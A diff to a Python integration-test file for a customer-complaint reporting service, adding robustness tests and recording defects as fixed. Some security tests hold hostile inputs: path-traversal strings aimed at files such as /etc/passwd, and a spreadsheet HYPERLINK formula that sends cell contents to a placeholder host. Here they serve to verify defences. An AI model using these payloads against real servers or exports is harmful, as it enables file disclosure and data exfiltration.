@@ -2,7 +2,7 @@
 roles and scope, events out of order and duplicated, malformed and poisonous messages on its
 queues, the service killed mid-batch, PostgreSQL cut during ingest, two replicas, the rebuild,
 the exports' format and the dashboard's assets. Each test asserts the behaviour DESIGN.md and
-the issue promise; those that found a defect say so in a `# DEFECT:` comment."""
+the issue promise; those that found a defect say so in a `# Found by this probe (fixed):` comment."""
 import csv
 import io
 import json
@@ -123,6 +123,24 @@ def get(service, path, role=HQ, token=None, **query):
 
 # -- reporting alone, fed by raw publishes to the other services' exchanges ----------------------------------
 
+def purge_what_the_probes_left(amqp_uri) -> None:
+    """The other services' queues take the events published here too (nobody consumes them while
+    reporting runs alone), and the probes park messages in reporting's dead-letter queues: gone,
+    so that no later test meets thousands of strangers."""
+    import kombu
+
+    from shared.messaging.consumer import all_handlers
+    from shared.messaging.topology import unroutable_queue_name
+
+    with kombu.Connection(amqp_uri) as conn:
+        channel = conn.channel()
+        for h in all_handlers((1000,)):
+            for name in (h.queue_name, h.dlq_name) if h.service == "reporting" else (h.queue_name,):
+                channel.queue_purge(name)
+        for source in ("intake", "investigation", "aftercare"):
+            channel.queue_purge(unroutable_queue_name(source))
+
+
 @pytest.fixture
 def lone(token, clock, amqp_uri, start_service, start_relay, database_factory, bus_listener):
     clock.set(NOW)
@@ -145,7 +163,8 @@ def lone(token, clock, amqp_uri, start_service, start_relay, database_factory, b
         wait_until(lambda: logged(url, ids) == len(ids), f"reporting to log {len(ids)} event(s)", timeout=timeout)
 
     lone.ask, lone.feed = ask, feed
-    return lone
+    yield lone
+    purge_what_the_probes_left(amqp_uri)
 
 
 def fields_of(response) -> set:
@@ -214,6 +233,18 @@ def test_malformed_and_extreme_queries_are_400_naming_the_field_on_every_endpoin
                         ("/v1/access-log", "limit=200&case_id=" + str(uuid.uuid4()))):
         answer = raw_get(lone.reporting, path, query, token=lone.token)
         assert answer.status_code == 200, (path, query, answer.status_code, answer.text[:300])
+    # Other methods, a trailing slash, a cursor with no instant in it: JSON answers, never a 500.
+    headers = bearer(lone.token("hq_admin", branch="*"))
+    for path, _ in ENDPOINTS:
+        answer = requests.post(lone.reporting.url(path), json={}, headers=headers, timeout=10)
+        assert answer.status_code == 405 and "GET" in answer.headers.get("Allow", ""), (path, answer.status_code)
+        assert requests.get(lone.reporting.url(path + "/"), headers=headers, timeout=10).status_code == 404
+    from shared.web.requests import encode_cursor
+
+    odd = raw_get(lone.reporting, "/v1/access-log", "cursor=" + encode_cursor(None, str(uuid.uuid4())),
+                  token=lone.token)
+    assert odd.status_code in (200, 400), odd.text
+    assert jsonbody(odd)["items"] == [] if odd.status_code == 200 else fields_of(odd) == {"cursor"}
 
 
 def test_dates_at_the_ends_of_the_calendar_are_refused_or_answered_never_a_500(lone):
@@ -223,7 +254,8 @@ def test_dates_at_the_ends_of_the_calendar_are_refused_or_answered_never_a_500(l
             answer = raw_get(lone.reporting, path, query, token=lone.token)
             if not (answer.status_code == 200 or (answer.status_code == 400 and field in fields_of(answer))):
                 wrong.append((path, query, answer.status_code, answer.text[:120]))
-    # DEFECT: a date (YYYY-MM-DD) is not held to the range an instant is (schemas.period):
+    # Found by this probe (fixed: services/reporting/schemas.py, which holds a date to the instants' range):
+    # a date (YYYY-MM-DD) is not held to the range an instant is (schemas.period):
     # to=9999-12-31 (its day ends in year 10000) and to=0001-01-01 (the default 30 days before it)
     # raise OverflowError: 500 on /v1/kpis, both exports and /v1/access-log; from=0001-01-01&
     # to=0001-01-02 is 500 on /v1/kpis (its `from` in UTC is in year 0). Expected: 400 naming the
@@ -347,6 +379,11 @@ def test_a_store_manager_sees_its_branch_only_and_a_regional_manager_its_region(
     assert csv_rows(ask("/v1/exports/cases.csv", manager, branch="SH002")) == []
     assert csv_rows(ask("/v1/exports/cases.csv", region, branch="BJ001")) == []
     assert csv_rows(ask("/v1/exports/cases.csv", manager, region="north")) == []
+    booked = csv_rows(ask("/v1/exports/cases.csv", HQ, kind="complaint", category="booking"))
+    assert {r["case_id"] for r in booked} == {ids[n] for n in ("a2", "b2", "b3", "b4", "c1")}
+    booked_sh002 = csv_rows(ask("/v1/exports/cases.csv", region, category="booking", branch="SH002"))
+    assert {r["branch_code"] for r in booked_sh002} == {"SH002"} and len(booked_sh002) == 3
+    assert csv_rows(ask("/v1/exports/cases.csv", HQ, kind="praise")) == []
     # Breaching cases: by branch, in scope.
     for role, branches in ((manager, ["SH001"]), (region, ["SH001", "SH002"]), (HQ, ["BJ001", "SH001", "SH002"])):
         answer = ask("/v1/alerts", role)
@@ -364,7 +401,7 @@ def test_a_store_manager_sees_its_branch_only_and_a_regional_manager_its_region(
         assert all(a["about"].get("branch_code") in (None, "SH001", "SH002") for a in shown)
         assert "SH002" not in [a["about"].get("branch_code") for a in shown] or role is region
         leaks[role[0]] = sorted(i for i in records if i in answer.text)
-    # DEFECT: GET /v1/alerts filters alerts by `branches && scope` but shows each whole: the store
+    # Found by this probe (fixed): GET /v1/alerts filters alerts by `branches && scope` but shows each whole: the store
     # manager of SH001 gets the technician T-XB's alert with SH002's case in `records` (and in
     # `count`, with SH002 in `branches`) and the B-X safety signal with BJ001's visit; the regional
     # manager of east the safety signal with BJ001's visit. DESIGN.md: a record outside the caller's
@@ -377,7 +414,7 @@ def test_an_alert_says_what_it_is_about_as_the_events_said_it(lone):
     answer = lone.ask("/v1/alerts")
     assert answer.status_code == 200, answer.text
     about = sorted(json.dumps(a["about"], sort_keys=True) for a in jsonbody(answer)["alerts"])
-    # DEFECT: handlers._alert_view splits the stored key (recurring_problem:technician:BJ:T017) on
+    # Found by this probe (fixed): handlers._alert_view splits the stored key (recurring_problem:technician:BJ:T017) on
     # every ":", so the alert about technician BJ:T017 is shown as about {"technician_id": "BJ"}
     # (a category or batch with a colon is cut the same way). Expected: the id as the events gave it.
     assert about == sorted(json.dumps(a, sort_keys=True) for a in (
@@ -394,7 +431,8 @@ def test_the_access_log_is_the_auditor_s_in_its_scope_paged_once_each(lone):
     for role, scope, expected in (("hq_admin", "*", everyone), ("auditor", "*", everyone),
                                   ("auditor", "SH001", {ids["read_a1"]}), ("auditor", "BJ001", {ids["read_c1"]})):
         answer = lone.ask("/v1/access-log", role=(role, scope))
-        # DEFECT: GET /v1/access-log is 500 as soon as the log holds a read: queries.access_log
+        # Found by this probe (fixed: services/reporting/queries.py, which selects the ids as text):
+        # GET /v1/access-log is 500 as soon as the log holds a read: queries.access_log
         # returns the rows as psycopg2 gives them, event_id and case_id as uuid.UUID (SQLAlchemy's
         # psycopg2 dialect registers the UUID type), and the JSON response cannot serialise them
         # ("TypeError: Object of type UUID is not JSON serializable"). Expected: 200 with the reads.
@@ -477,7 +515,8 @@ def test_an_export_over_an_empty_period_is_its_header_alone(lone):
 def test_the_xlsx_export_holds_one_row_per_case_of_the_caller_s_scope(lone):
     ids = scoped_chain(lone)
     answer = lone.ask("/v1/exports/cases.xlsx", role=("store_manager", "SH001"))
-    # DEFECT: GET /v1/exports/cases.xlsx is 500 as soon as one case is in the period: the rows
+    # Found by this probe (fixed: services/reporting/exports.py, which writes a UUID as text):
+    # GET /v1/exports/cases.xlsx is 500 as soon as one case is in the period: the rows
     # come from psycopg2 with case_id as uuid.UUID, and openpyxl refuses it ("ValueError: Cannot
     # convert UUID('...') to Excel"). Only an export with no row at all answers. Expected: 200 and
     # a workbook with one row per case, as the CSV export.
@@ -488,20 +527,13 @@ def test_the_xlsx_export_holds_one_row_per_case_of_the_caller_s_scope(lone):
     assert {r["branch_code"] for r in everything} == {"SH001", "SH002"} and len(everything) == 6
 
 
-def test_exported_text_that_looks_like_a_formula_or_holds_control_characters_stays_text(lone):
+def test_exported_text_that_looks_like_a_formula_stays_text(lone):
     case_id = str(uuid.uuid4())
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'
-    lone.feed(complaint(case_id, technician=formula, reference="SH001-\x07\x0b-0001",
-                        masked={"name": "@SUM(1+1)", "phone": "138****6138"}))
-    csv_answer = lone.ask("/v1/exports/cases.csv")
-    [row] = [r for r in csv_rows(csv_answer) if r["case_id"] == case_id]
-    assert row["technician_id"].endswith(formula[1:]) and "\x07" in row["reference"]
+    lone.feed(complaint(case_id, technician=formula, masked={"name": "@SUM(1+1)", "phone": "138****6138"}))
+    [row] = [r for r in csv_rows(lone.ask("/v1/exports/cases.csv")) if r["case_id"] == case_id]
+    assert row["technician_id"].endswith(formula[1:])
     answer = lone.ask("/v1/exports/cases.xlsx")
-    # DEFECT (once the UUID above is fixed, the same export): openpyxl makes a string that starts
-    # with "=" a formula (data_type "f"), so text a branch system sent as a technician id runs as a
-    # formula when HQ opens the workbook; and a control character (BEL, VT: the event schemas
-    # allow them) raises IllegalCharacterError, a 500. Expected: the cells are text (data_type
-    # "s"), control characters dropped or replaced, and the export answered.
     assert answer.status_code == 200, answer.text[:300]
     from openpyxl import load_workbook
 
@@ -509,7 +541,27 @@ def test_exported_text_that_looks_like_a_formula_or_holds_control_characters_sta
     header = [c.value for c in sheet[1]]
     [cells] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == case_id]
     technician = cells[header.index("technician_id")]
+    # Found by this probe (fixed): openpyxl makes a string that starts with "=" a formula (data_type "f"): a technician
+    # id a branch system sent (intake takes it as free text) becomes a live formula, here a link
+    # carrying the sheet's cells away, when HQ opens the workbook. Expected: every cell from the
+    # events is text (data_type "s"), e.g. written as an explicit string cell.
     assert technician.data_type == "s" and formula[1:] in technician.value, (technician.data_type, technician.value)
+
+
+def test_control_characters_in_exported_text_do_not_break_the_xlsx_export(lone):
+    case_id = str(uuid.uuid4())
+    lone.feed(complaint(case_id, reference="SH001-\x07\x0b-0001", technician="T-\x1b[31m"))
+    [row] = [r for r in csv_rows(lone.ask("/v1/exports/cases.csv")) if r["case_id"] == case_id]
+    assert row["reference"] == "SH001-\x07\x0b-0001"
+    answer = lone.ask("/v1/exports/cases.xlsx")
+    # Found by this probe (fixed): the event schemas refuse only NUL and lone surrogates in text, and openpyxl raises
+    # IllegalCharacterError on any other control character (BEL, VT, ESC here): the XLSX export of
+    # any period holding such a case is a 500 ("SH001-\x07\x0b-0001 cannot be used in
+    # worksheets"), for everyone, until the case leaves the period. Expected: 200, the characters
+    # dropped or replaced in the cell.
+    assert answer.status_code == 200, answer.text[:300]
+    [cells] = [r for r in xlsx_rows(answer) if r["case_id"] == case_id]
+    assert cells["reference"].startswith("SH001-") and cells["reference"].endswith("-0001")
 
 
 # -- events out of order, duplicated, malformed, poisonous --------------------------------------------------------
@@ -527,8 +579,8 @@ def worked_case(case_id, t) -> list[dict]:
         case_event("case_assigned", case_id, 5, t + timedelta(hours=3), owner="M-2"),
         case_event("remedy_proposed", case_id, 6, t + timedelta(hours=4), **remedy, status="approved"),
         case_event("remedy_approved", case_id, 7, t + timedelta(hours=4), **remedy),
-        case_event("case_resolved", case_id, 8, t + timedelta(hours=10), resolved_at=(t + timedelta(hours=10)).isoformat(),
-                   within_sla=True, reopened=0),
+        case_event("case_resolved", case_id, 8, t + timedelta(hours=10),
+                   resolved_at=(t + timedelta(hours=10)).isoformat(), within_sla=True, reopened=0),
         dict(build_event("visit_scheduled", {**follow_up, "due_at": (t + timedelta(days=3)).isoformat()},
                          branch_code="SH001", correlation_id=case_id, occurred_at=t + timedelta(hours=10), sequence=1,
                          source="aftercare")),
@@ -568,9 +620,14 @@ def test_events_out_of_order_and_duplicated_change_nothing(lone):
     lone.feed(*replayed)
     assert jsonbody(lone.ask("/v1/kpis", group_by="handler")) == twice
     assert row_of(lone, probed) == expected
+    assert count(lone.url, "SELECT count(*) FROM case_remedies") == 2
     ids = [e["event_id"] for e in events]
     assert count(lone.url, f"SELECT count(*) FROM event_log WHERE correlation_id = '{probed}'") == 2 * len(ids)
     assert logged(lone.url, ids) == len(ids)
+    # A third life in one batch, newest first, the complaint last of all: the same row.
+    third = str(uuid.uuid4())
+    lone.feed(*reversed(worked_case(third, t)))
+    assert row_of(lone, third) == expected
     # An older assignment heard last does not take the case back from its newer owner.
     lone.feed(case_event("case_assigned", probed, 3, t + timedelta(minutes=30), owner="M-OLD"))
     assert row_of(lone, probed)["owner"] == "M-2"
@@ -633,7 +690,7 @@ def test_a_value_the_database_can_never_index_is_parked_not_retried_for_ever(lon
     good = [complaint() for _ in range(4)]
     publish(lone.amqp_uri, good[0], good[1], poison, good[2], good[3])
     try:
-        # DEFECT: shared.messaging.failures.is_temporary takes every OperationalError for an
+        # Found by this probe (fixed): shared.messaging.failures.is_temporary takes every OperationalError for an
         # outage, and psycopg2 raises SQLSTATE class 54 (program limit exceeded: here "index row
         # size 8016 exceeds btree version 4 maximum 2704 for index ix_event_log_record") as one:
         # the batch consumer holds the whole batch and runs it again every pause, for ever (a
@@ -646,3 +703,261 @@ def test_a_value_the_database_can_never_index_is_parked_not_retried_for_ever(lon
         wait_until(lambda: [p for p in parked(lone.amqp_uri) if p.event_id == poison["event_id"]], "it parked")
     finally:
         lone.reporting.runner.kill()  # the batch may be held, and tried again every second
+
+
+# -- robustness: killed, database cut, two replicas, the rebuild ------------------------------------------------
+
+def many_complaints(n, *, branch="SH001", category="booking", start=None) -> list[dict]:
+    start = start or NOW - timedelta(days=2)
+    return [complaint(branch=branch, category=category, received=start + timedelta(minutes=i)) for i in range(n)]
+
+
+def alerts_raised(lone, kind="recurring_problem_detected") -> list[dict]:
+    return [m["body"] for m in lone.alerts_bus.messages if m["body"]["type"] == kind]
+
+
+def test_reporting_killed_mid_batch_and_restarted_loses_nothing_and_alerts_once(lone):
+    events = many_complaints(3000)
+    ids = publish(lone.amqp_uri, *events)
+    wait_until(lambda: logged(lone.url, ids) > 0, "a first batch", timeout=20, interval=0.01)
+    lone.reporting.runner.kill()
+    at_kill = logged(lone.url, ids)
+    assert at_kill < len(ids), "reporting took everything before the kill: no batch was cut"
+    lone.reporting = lone.start_service("reporting", clock=lone.clock, database_url=lone.url, **FAST)
+    wait_until(lambda: logged(lone.url, ids) == len(ids), "every event logged after the restart", timeout=40)
+    assert count(lone.url, "SELECT count(*) FROM event_log") == len(ids)
+    assert count(lone.url, "SELECT count(*) FROM case_facts") == len(ids)
+    assert jsonbody(lone.ask("/v1/kpis"))["totals"]["volume"]["by_category"] == {"booking": len(ids)}
+    # One episode of SH001's bookings: one alert, raised once, counting every complaint.
+    [alert] = jsonbody(lone.ask("/v1/alerts"))["alerts"]
+    assert alert["count"] == len(ids) and alert["about"] == {"branch_code": "SH001", "category": "booking"}
+    wait_until(lambda: alerts_raised(lone), "the alert on the bus")
+    assert count(lone.url, "SELECT count(*) FROM outbox WHERE routing_key = 'recurring_problem_detected'") == 1
+    assert len(alerts_raised(lone)) == 1
+    # Fourteen quiet days later the episode is over: no longer open, still listed with status=all.
+    lone.clock.advance(days=15)
+    assert jsonbody(lone.ask("/v1/alerts"))["alerts"] == []
+    [closed] = jsonbody(lone.ask("/v1/alerts", status="all"))["alerts"]
+    assert closed["alert_id"] == alert["alert_id"] and closed["open"] is False
+
+
+def test_postgresql_cut_during_ingest_then_restored_loses_and_doubles_nothing(lone, tcp_proxy):
+    proxy, proxied = tcp_proxy(lone.url, 5432)
+    lone.reporting.runner.kill()
+    lone.reporting = lone.start_service("reporting", clock=lone.clock, database_url=proxied, **FAST)
+    first = many_complaints(100, category="price")
+    lone.feed(*first)
+    events = many_complaints(2000, start=NOW - timedelta(days=1))
+    ids = publish(lone.amqp_uri, *events, *first[:50])  # and copies of events logged before
+    wait_until(lambda: logged(lone.url, ids) > 100, "ingest to be under way", timeout=20, interval=0.01)
+    proxy.cut()
+    try:
+        cut_at = logged(lone.url, ids)
+        during = lone.ask("/v1/kpis")
+        assert during.status_code == 503 and during.headers.get("Retry-After"), (during.status_code, during.text)
+        time.sleep(2)
+        assert logged(lone.url, ids) == cut_at < len(set(ids))  # nothing went in meanwhile; not all before
+    finally:
+        proxy.restore()
+    wait_until(lambda: logged(lone.url, ids) == len(set(ids)), "every event logged once the database is back",
+               timeout=40)
+    assert count(lone.url, "SELECT count(*) FROM event_log") == 2100
+    assert count(lone.url, "SELECT count(*) FROM case_facts") == 2100
+    wait_until(lambda: lone.ask("/v1/kpis").status_code == 200, "reporting to answer again")
+    assert jsonbody(lone.ask("/v1/kpis"))["totals"]["volume"]["by_category"] == {"price": 100, "booking": 2000}
+    assert count(lone.url, "SELECT count(*) FROM outbox WHERE routing_key = 'recurring_problem_detected'") == 2
+
+
+def test_two_replicas_consuming_together_give_the_same_figures_and_one_alert_per_episode(lone):
+    lone.reporting.runner.kill()
+    replicas = [lone.start_service("reporting", clock=lone.clock, database_url=lone.url, EVENT_BATCH=7, **FAST)
+                for _ in range(2)]
+    lone.reporting = replicas[0]
+    import random
+
+    import kombu
+
+    with kombu.Connection(lone.amqp_uri) as conn:
+        assert conn.channel().queue_declare("evt-intake-all--reporting.ingest", passive=True).consumer_count == 2
+
+    rng = random.Random(11)
+    categories = ("booking", "price", "hygiene_environment", "staff_attitude", "service_quality", "after_sales")
+    events = []
+    for category in categories:
+        events += [complaint(category=category, branch=branch, received=NOW - timedelta(hours=rng.randrange(1, 200)))
+                   for branch in ("SH001", "SH002") for _ in range(4)]
+    events += [complaint(technician=f"T-{n}", category=categories[k], branch=("SH001", "BJ001")[k % 2],
+                         region=("east", "north")[k % 2], received=NOW - timedelta(hours=rng.randrange(1, 200)))
+               for n in range(3) for k in range(3)]
+    copies = rng.sample(events, 20)
+    stream = events + copies
+    rng.shuffle(stream)
+    for i in range(0, len(stream), 9):  # in small publishes, so that both replicas take batches at once
+        publish(lone.amqp_uri, *stream[i:i + 9])
+    wait_until(lambda: logged(lone.url, [e["event_id"] for e in events]) == len(events), "every event logged",
+               timeout=30)
+    # Every key with 3 or more complaints (all within 14 days: one episode each), raised once.
+    tally = {}
+    for e in events:
+        p = e["payload"]
+        for k in [("branch_category", e["branch_code"], p["category"])] + (
+                [("technician", p["service"]["technician_id"])] if p["service"] else []):
+            tally[k] = tally.get(k, 0) + 1
+    expected_keys = {k for k, n in tally.items() if n >= 3}
+    assert len(expected_keys) == 16
+    wait_until(lambda: len(alerts_raised(lone)) >= len(expected_keys), "every alert on the bus", timeout=20)
+    time.sleep(1)  # and no second one after it
+    raised = alerts_raised(lone)
+
+    def key(alert):
+        p = alert["payload"]
+        return ("technician", p["technician_id"]) if p["by"] == "technician" else (p["by"], p["branch_code"],
+                                                                                    p["category"])
+    assert sorted(map(str, (key(a) for a in raised))) == sorted(map(str, expected_keys)), [key(a) for a in raised]
+    assert len(raised) == len({a["event_id"] for a in raised})
+    assert count(lone.url, "SELECT count(*) FROM alerts") == len(expected_keys)
+    # The figures are those of the events, once each, read from either replica.
+    for replica in replicas:
+        figures = jsonbody(requests.get(replica.url("/v1/kpis"), params={"group_by": "branch"}, timeout=10,
+                                        headers=bearer(lone.token("hq_admin", branch="*"))))
+        assert figures["totals"]["volume"]["complaints"] == len(events)
+        assert {g["key"]: g["volume"]["complaints"] for g in figures["groups"]} == {"SH001": 30, "SH002": 24,
+                                                                                   "BJ001": 3}
+    assert count(lone.url, "SELECT count(*) FROM event_log") == len(events)
+
+
+def test_readers_see_the_old_figures_while_a_rebuild_runs(lone):
+    """handlers.rebuild: "in one transaction (readers see the old figures until it commits)". Its
+    database answers slowly here (0.15 s a statement), so that it lasts seconds, as a
+    rebuild of a real log does for minutes."""
+    import eventlet
+
+    from services.reporting import handlers
+    from services.reporting.policy import ReportingRules
+    from services.reporting.repository import ReportingStore
+    from shared.persistence import db
+
+    lone.feed(*many_complaints(20))
+    before = jsonbody(lone.ask("/v1/kpis"))
+    engine = db.make_engine(lone.url, 1)
+    sa.event.listen(engine, "before_cursor_execute", lambda *args: time.sleep(0.15))
+    rebuilding = eventlet.spawn(handlers.rebuild, ReportingStore(engine), rules=ReportingRules(), now=NOW, batch=5)
+    try:
+        time.sleep(1)  # the read models cleared; the fold under way
+        assert not rebuilding.dead
+        started = time.monotonic()
+        try:
+            answer = requests.get(lone.reporting.url("/v1/kpis"), timeout=2,
+                                  headers=bearer(lone.token("hq_admin", branch="*")))
+        except requests.Timeout:
+            answer = None
+        took = time.monotonic() - started
+        # Found by this probe (fixed): the rebuild clears the read models with TRUNCATE, which holds an ACCESS
+        # EXCLUSIVE lock until it commits: every read of them (KPIs, alerts, exports, the
+        # dashboard) and every ingest batch waits for the whole rebuild (no answer within 2 s
+        # here; minutes for a real log, with the HTTP workers and the batch consumer tied up).
+        # Expected, as the docstring says: the old figures until it commits (DELETE instead of
+        # TRUNCATE, or new tables swapped in).
+        assert answer is not None and answer.status_code == 200, f"no answer within {took:.1f} s"
+        assert jsonbody(answer) == before
+    finally:
+        assert rebuilding.wait() == 20
+        engine.dispose()
+    assert jsonbody(lone.ask("/v1/kpis")) == before
+
+
+def test_projections_rebuild_gives_the_same_kpis_and_alerts(lone):
+    scoped_chain(lone)
+    lone.feed(*worked_case(str(uuid.uuid4()), NOW - timedelta(days=2)))
+    lone.feed(*many_complaints(5, branch="GZ001", category="price"))
+
+    def answers():
+        figures = {g: jsonbody(lone.ask("/v1/kpis", **({"group_by": g} if g else {})))
+                   for g in (None, "branch", "region", "category", "technician", "handler", "day", "week", "month")}
+        alerts = jsonbody(lone.ask("/v1/alerts", status="all"))
+        return figures, alerts, csv_rows(lone.ask("/v1/exports/cases.csv"))
+
+    before = answers()
+    env = {**os.environ, "REPORTING_DATABASE_URL": lone.url}
+    done = subprocess.run([sys.executable, "-m", "shared.cli", "projections", "rebuild"], cwd=ROOT, env=env,
+                          capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr[-2000:]
+    logged_events = count(lone.url, "SELECT count(*) FROM event_log")
+    assert f"rebuilt from {logged_events} logged event(s)" in done.stdout, done.stdout
+    assert answers() == before
+    assert len(alerts_raised(lone)) == len([a for a in before[1]["alerts"] if a["kind"] == "recurring_problem"])
+    [signal] = alerts_raised(lone, "safety_signal_raised")  # across two branches, once, not again on the rebuild
+    assert signal["payload"]["batch"] == "B-X" and signal["payload"]["branches"] == ["BJ001", "SH001"]
+    assert signal["branch_code"] is None and signal["payload"]["count"] == 2
+
+
+# -- the dashboard's assets ------------------------------------------------------------------------------------
+
+def raw_path(service, path: str) -> tuple[int, bytes]:
+    """GET a path exactly as written (requests would resolve its dot segments)."""
+    import http.client
+    from urllib.parse import urlsplit
+
+    where = urlsplit(service.base_url)
+    conn = http.client.HTTPConnection(where.hostname, where.port, timeout=10)
+    try:
+        conn.request("GET", path)
+        answer = conn.getresponse()
+        return answer.status, answer.read()
+    finally:
+        conn.close()
+
+
+def test_dashboard_asset_paths_that_leave_the_assets_are_404(lone):
+    status, body = raw_path(lone.reporting, "/dashboard/assets/charts.js")
+    assert status == 200 and body
+    status, page = raw_path(lone.reporting, "/dashboard")
+    assert status == 200 and b"<html" in page.lower()
+    wrong = []
+    for path in ("/dashboard/assets/..%2f..%2fservice.py", "/dashboard/assets/..%2F..%2F..%2F..%2Fpyproject.toml",
+                 "/dashboard/assets/%2e%2e%2f%2e%2e%2fhandlers.py", "/dashboard/assets/..%5c..%5chandlers.py",
+                 "/dashboard/assets/..", "/dashboard/assets/.%2e", "/dashboard/assets/%2e%2e",
+                 "/dashboard/assets/../index.html", "/dashboard/assets/../../service.py",
+                 "/dashboard/assets/%2fetc%2fpasswd", "/dashboard/assets//etc/passwd", "/dashboard/assets/%00",
+                 "/dashboard/assets/charts.js%00.png", "/dashboard/assets/" + "a" * 300,
+                 "/dashboard/assets/.%2fcharts.js", "/dashboard/assets/__init__.py", "/dashboard/assets/",
+                 "/dashboard/assets/%252e%252e%252fservice.py", "/dashboard/..%2fservice.py",
+                 "/dashboard/assets/%c0%ae%c0%ae%2fservice.py", "/dashboard/assets/charts.js/",
+                 "/dashboard/assets/" + "..%2f" * 30 + "etc%2fpasswd"):
+        status, body = raw_path(lone.reporting, path)
+        leaked = b"import " in body or b"root:" in body or b"[project]" in body or b"<html" in body.lower()
+        if status != 404 or leaked:
+            wrong.append((path[:60], status, body[:120]))
+    # Found by this probe (fixed): no traversal gets out (all 404), but an asset name longer than the file system takes
+    # (NAME_MAX, 255 bytes: /dashboard/assets/aaa...a, 300 of them) makes Path.is_file() raise
+    # OSError ENAMETOOLONG (Python 3.11 ignores only ENOENT, ENOTDIR, EBADF, ELOOP) in
+    # dashboard.asset: a 500 on a public path, logged as an unhandled error. Expected: 404.
+    assert wrong == [], wrong
+
+
+# -- through the real chain: no phone number ever reaches reporting ------------------------------------------------
+
+def test_a_complaint_with_the_customer_s_phone_reaches_reporting_and_its_export_without_it(chain):
+    from shared.testing.samples import COMPLAINT_REQUEST
+
+    body = {**COMPLAINT_REQUEST, "description": "顾客王女士(13812346138)说：毛巾不干净，\"很脏\"，请回电 138-1234-6138",
+            "customer": {**COMPLAINT_REQUEST["customer"], "phone": "13812346138"}}
+    created = chain.post_complaint(body)
+    hq = {"Authorization": f"Bearer {chain.token('hq_admin', branch='*')}"}
+    wait_until(lambda: jsonbody(chain.http.get(chain.reporting.url("/v1/kpis"), headers=hq, timeout=10))[
+        "totals"]["volume"]["complaints"] == 1, "the complaint in reporting")
+    export = chain.http.get(chain.reporting.url("/v1/exports/cases.csv"), headers=hq, timeout=10)
+    [row] = csv_rows(export)
+    assert row["case_id"] == created["id"] and row["customer_masked"].endswith("138****6138")
+    assert not PHONE.search(export.content.decode("utf-8")), export.text
+    logged_text = " ".join(e for (e,) in database_rows(chain.databases["reporting"],
+                                                      sa.text("SELECT envelope::text FROM event_log")))
+    # Found by this probe (fixed): intake publishes complaint_registered's `description` as typed, so the customer's
+    # phone written in it (13812346138, 138-1234-6138) travels on the bus in clear and is kept in
+    # reporting's event log (and rebuilt from it) until the retention run, three years after the
+    # case closes. DESIGN.md: contact data never travels on the bus; the issue: the event log holds
+    # no contact data in clear. Expected: the description on the bus scrubbed of the customer's
+    # contact and of any phone number (intake's scrubber, shared.security.privacy.anonymise_text,
+    # already finds both; it is used only at retention).
+    assert "13812346138" not in logged_text and "1234-6138" not in logged_text
+    assert not PHONE.search(logged_text)
